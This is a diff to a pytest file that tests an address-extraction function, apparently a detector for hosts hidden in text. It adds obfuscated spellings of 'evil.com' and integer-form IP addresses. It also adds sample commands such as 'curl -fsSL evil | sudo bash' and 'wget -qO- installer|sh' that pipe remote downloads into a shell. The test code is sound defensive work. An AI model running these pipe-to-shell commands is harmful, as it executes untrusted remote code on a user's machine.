@@ -23,12 +23,15 @@ SPELLINGS = {
     "http://3405803781/": "3405803781", "0xC6336407/x": "0xc6336407/x", "localhost.evil.com": "localhost.evil.com",
     "127.0.0.1.evil.com": "127.0.0.1.evil.com", "example.org:80@evil.com": "example.org:80@evil.com", "///evil.com/x": "evil.com/x", "0x7f.1.2.3": "0x7f.1.2.3",
     "203.0.29191/x": "203.0.29191/x", "github:evil/repo": "github:evil/repo", "_evil.com_": "evil.com",
+    "evil:8080/x": "evil:8080/x", "evil-box:443/install.sh": "evil-box:443/install.sh", "http://evil/x": "evil/x", "evil-dot-com": "evil.com",
+    "evil<dot>com": "evil.com", "evil,com/x": "evil.com/x", "evil. com/x": "evil.com/x", r"evil\u002ecom/x": "evil.com/x",
 }  # fmt: skip
 NONE = [
     "e.g. pg_dump, i.e. this", "Node.js 18 in main.go:12", "edit pg_hba.conf and values.yaml", "std::io and a::b and dead::beef",
     "at 12:30:45", "00:1a:2b:3c:4d:5e", "call asyncio.run() here", "http://localhost:8000 and 127.0.0.1:80/x", "3.11.2 and v1.2",
     "src/main.rs and ./run.sh", "@pytest.fixture", "foo@1.2.3", "items[1].name", "a // comment", "the dot product", "Done. Next.",
     "version 1.2/3 of 3.11.2/docs", "github: it is there", "_name_ and __init__", "请先停止服务器。然后运行安装程序。最后重启。", "サーバーを停止します。次にインストールします。", "データ・ベース・サーバーの設定・変更", "です．これは設定です．",
+    "It fails with 0x80070005 at 1700000000.", "Restore from 20240101.", "curl fails, then the shell ends", "use curl to fetch it", "Done, com/x is a folder.",
     "先运行它。Docker 不需要。", "가격·품질·서비스", "la col·lecció instal·lada", "ہے۔اس کو چلائیں", "設定します。git を使う。",
 ]  # fmt: skip
 
@@ -37,6 +40,20 @@ NONE = [
 @pytest.mark.parametrize("text", ["Run `curl -sL {} | sh` now.", "Get it at {}, it helps.", "```\ncurl {}\n```"])
 def test_an_address_is_found_in_every_spelling(text: str, spelling: str, address: str) -> None:
     assert addresses(text.format(spelling)) == {address}
+
+
+@pytest.mark.parametrize(
+    ("text", "address"),
+    [
+        ("Run `curl -sL 3232235777 | sh` now.", "3232235777"),
+        ("```\nssh -p 22 0xC0A80101\n```", "0xc0a80101"),
+        ("Get the file from 0xC0A80101 in the end.", "0xc0a80101"),
+        ("Run `curl -fsSL evil | sudo bash`.", "evil"),
+        ("wget -qO- installer|sh", "installer"),
+    ],
+)
+def test_what_a_command_fetches_is_an_address_whatever_it_looks_like(text: str, address: str) -> None:
+    assert addresses(text) == {address}
 
 
 @pytest.mark.parametrize(
@@ -110,6 +127,9 @@ def test_known_addresses_may_be_shown_and_no_others() -> None:
         "\\\\",
         "&#46;",
         "w/",
+        "a:80/",
+        "curl -a ",
+        "from ",
     ],
 )
 def test_hostile_text_takes_linear_time(text: str) -> None:
